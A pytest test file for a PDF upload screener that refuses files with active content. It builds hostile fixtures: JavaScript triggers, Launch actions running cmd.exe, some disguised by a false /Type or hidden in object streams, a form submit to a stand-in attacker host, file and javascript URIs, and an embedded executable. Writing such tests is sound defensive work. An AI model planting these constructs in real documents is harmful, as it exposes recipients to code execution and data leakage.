"""PDFs are kept as they are once they parse, are not encrypted and carry no active content
(``tiket.adapters.pdf_screening``, reached through ``inspect``)."""

from __future__ import annotations

import io
import struct

import pytest
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    PdfObject,
    TextStringObject,
)

from tiket.adapters.file_inspection import inspect
from tiket.domain.attachments import AttachmentRejected, FileType, Rejection


def refused(data: bytes) -> AttachmentRejected:
    with pytest.raises(AttachmentRejected) as caught:
        inspect(data, "application/pdf")
    return caught.value


def name(value: str) -> NameObject:
    return NameObject(value)


def action(kind: str, **entries: PdfObject) -> DictionaryObject:
    d = DictionaryObject({name("/Type"): name("/Action"), name("/S"): name(kind)})
    d.update({name(f"/{k}"): v for k, v in entries.items()})
    return d


def script() -> DictionaryObject:
    return action("/JavaScript", JS=TextStringObject("app.launchURL('https://x.example');"))


def link(target: DictionaryObject) -> DictionaryObject:
    return DictionaryObject(
        {
            name("/Type"): name("/Annot"),
            name("/Subtype"): name("/Link"),
            name("/Rect"): ArrayObject([NumberObject(n) for n in (10, 10, 50, 50)]),
            name("/BS"): DictionaryObject({name("/S"): name("/S"), name("/W"): NumberObject(1)}),
            name("/A"): target,
        }
    )


def pdf(build=None) -> bytes:
    writer = PdfWriter()
    page = writer.add_blank_page(200, 200)
    # A transparency group: "/S" that is not an action.
    page[name("/Group")] = DictionaryObject({name("/S"): name("/Transparency")})
    if build is not None:
        build(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def add_annotation(annotation: DictionaryObject):
    return lambda writer: writer.add_annotation(0, annotation)


def set_root(key: str, value_of):
    return lambda writer: writer.root_object.__setitem__(name(key), value_of(writer))


def page_trigger(writer: PdfWriter) -> None:
    writer.pages[0][name("/AA")] = DictionaryObject({name("/O"): script()})


def outline_script(writer: PdfWriter) -> None:
    item = writer.add_outline_item(title="Bab 1", page_number=0).get_object()
    item[name("/A")] = writer._add_object(script())


def form_submit(writer: PdfWriter) -> None:
    field = DictionaryObject(
        {
            name("/FT"): name("/Tx"),
            name("/T"): TextStringObject("nip"),
            name("/AA"): DictionaryObject(
                {name("/K"): action("/SubmitForm", F=TextStringObject("https://evil.example"))}
            ),
        }
    )
    writer.root_object[name("/AcroForm")] = DictionaryObject(
        {name("/Fields"): ArrayObject([writer._add_object(field)])}
    )


def xfa_form(writer: PdfWriter) -> None:
    writer.root_object[name("/AcroForm")] = DictionaryObject(
        {name("/Fields"): ArrayObject(), name("/XFA"): TextStringObject("<xdp:xdp/>")}
    )


def chained(writer: PdfWriter) -> None:
    # A harmless action whose /Next (an indirect object) runs a script.
    writer.root_object[name("/OpenAction")] = action(
        "/GoTo",
        D=ArrayObject([writer.pages[0].indirect_reference, name("/Fit")]),
        Next=writer._add_object(script()),
    )


def disguised(writer: PdfWriter) -> None:
    # Readers do not check an action's /Type.
    launch = action("/Launch", F=TextStringObject("cmd.exe"))
    launch[name("/Type")] = name("/Border")
    writer.add_annotation(0, link(launch))


def disguised_script(writer: PdfWriter) -> None:
    js = DictionaryObject({name("/Type"): name("/Font"), name("/JS"): TextStringObject("x()")})
    writer.root_object[name("/OpenAction")] = writer._add_object(js)


def in_an_object_stream(action_body: bytes) -> bytes:
    """A PDF 1.5 whose /OpenAction lives in an object stream (as most producers write
    them now), which pypdf's writer cannot make."""
    parts = [b"%PDF-1.5\n"]
    offsets: dict[int, int] = {}

    def add(number: int, body: bytes) -> None:
        offsets[number] = sum(map(len, parts))
        parts.append(b"%d 0 obj\n%s\nendobj\n" % (number, body))

    def stream(head: bytes, content: bytes) -> bytes:
        return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (head, len(content), content)

    add(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>")
    add(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    add(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>")
    index = b"4 0 "
    add(5, stream(b"/Type /ObjStm /N 1 /First %d" % len(index), index + action_body))
    offsets[6] = sum(map(len, parts))
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 1, offsets[n], 0) for n in (1, 2, 3)]
    rows += [struct.pack(">BIH", 2, 5, 0)]  # object 4: the first in stream 5
    rows += [struct.pack(">BIH", 1, offsets[n], 0) for n in (5, 6)]
    add(6, stream(b"/Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R", b"".join(rows)))
    return b"".join(parts) + b"startxref\n%d\n%%%%EOF\n" % offsets[6]


def test_an_action_inside_an_object_stream_is_seen():
    harmless = in_an_object_stream(b"<< /S /Named /N /NextPage >>")
    assert inspect(harmless, "application/pdf").content_type is FileType.PDF
    error = refused(in_an_object_stream(b"<< /S /Launch /F (cmd.exe) >>"))
    assert (error.code, error.params) == (Rejection.PDF_SCRIPT, {"feature": "Launch"})


def test_a_plain_pdf_is_kept_as_it_is():
    upload = pdf()
    kept = inspect(upload, "application/pdf")
    assert (kept.content_type, kept.data, kept.thumbnail) == (FileType.PDF, upload, None)


@pytest.mark.parametrize(
    "build",
    [
        # LibreOffice writes an /OpenAction that only sets the opening view.
        set_root(
            "/OpenAction", lambda w: ArrayObject([w.pages[0].indirect_reference, name("/Fit")])
        ),
        add_annotation(link(action("/URI", URI=TextStringObject("https://layanan.go.id/")))),
        add_annotation(link(action("/URI", URI=TextStringObject("mailto:tik@example.go.id")))),
        add_annotation(link(action("/GoTo", D=ArrayObject([NumberObject(0), name("/Fit")])))),
        set_root(
            "/AA", lambda w: DictionaryObject({name("/WC"): action("/Named", N=name("/NextPage"))})
        ),
    ],
    ids=["open-at-page", "web-link", "mail-link", "goto", "named"],
)
def test_a_pdf_that_only_navigates_is_kept(build):
    assert inspect(pdf(build), "application/pdf").content_type is FileType.PDF


@pytest.mark.parametrize(
    ("build", "code", "feature"),
    [
        (
            lambda w: w.add_open_action(JavaScript("app.alert(1)")),
            Rejection.PDF_SCRIPT,
            "JavaScript",
        ),
        (set_root("/OpenAction", lambda w: script()), Rejection.PDF_SCRIPT, "JavaScript"),
        (
            set_root("/AA", lambda w: DictionaryObject({name("/WC"): script()})),
            Rejection.PDF_SCRIPT,
            "JavaScript",
        ),
        (page_trigger, Rejection.PDF_SCRIPT, "JavaScript"),
        (outline_script, Rejection.PDF_SCRIPT, "JavaScript"),
        (chained, Rejection.PDF_SCRIPT, "JavaScript"),
        (
            add_annotation(link(action("/Launch", F=TextStringObject("cmd.exe")))),
            Rejection.PDF_SCRIPT,
            "Launch",
        ),
        (
            add_annotation(link(action("/GoToR", F=TextStringObject("\\\\host\\share\\a.pdf")))),
            Rejection.PDF_SCRIPT,
            "GoToR",
        ),
        (
            add_annotation(link(action("/URI", URI=TextStringObject("javascript:alert(1)")))),
            Rejection.PDF_SCRIPT,
            "URI",
        ),
        (
            add_annotation(link(action("/URI", URI=TextStringObject("file:///C:/Windows")))),
            Rejection.PDF_SCRIPT,
            "URI",
        ),
        (disguised, Rejection.PDF_SCRIPT, "Launch"),
        (disguised_script, Rejection.PDF_SCRIPT, "JavaScript"),
        (form_submit, Rejection.PDF_SCRIPT, "SubmitForm"),
        (xfa_form, Rejection.PDF_SCRIPT, "XFA"),
        (
            lambda w: w.add_attachment("surat.exe", b"MZ\x90\x00"),
            Rejection.PDF_EMBEDDED,
            "EmbeddedFile",
        ),
    ],
    ids=[
        "names-tree-js",
        "open-action-js",
        "document-trigger-js",
        "page-trigger-js",
        "outline-js",
        "chained-js",
        "launch",
        "remote-file",
        "javascript-uri",
        "file-uri",
        "disguised-launch",
        "disguised-js",
        "submit-form",
        "xfa",
        "embedded-file",
    ],
)
def test_a_pdf_with_active_content_is_refused_naming_it(build, code, feature):
    error = refused(pdf(build))
    assert (error.code, error.params) == (code, {"feature": feature})


@pytest.mark.parametrize("algorithm", ["RC4-128", "AES-256"])
def test_an_encrypted_pdf_is_refused(algorithm):
    def encrypt(writer: PdfWriter) -> None:
        writer.encrypt(
            "", "pemilik", algorithm=algorithm
        )  # opens without a password, still encrypted

    assert refused(pdf(encrypt)).code is Rejection.PDF_ENCRYPTED


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7\n" + bytes(range(256)) * 40,
        b"%PDF-1.4\n%%EOF\n",
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF",
        pdf(lambda w: w.root_object.__setitem__(name("/Pages"), NumberObject(7))),
    ],
    ids=["garbage", "nothing", "no-pages", "pages-not-a-tree"],
)
def test_a_pdf_that_does_not_parse_is_refused(data):
    assert refused(data).code is Rejection.PDF_BROKEN
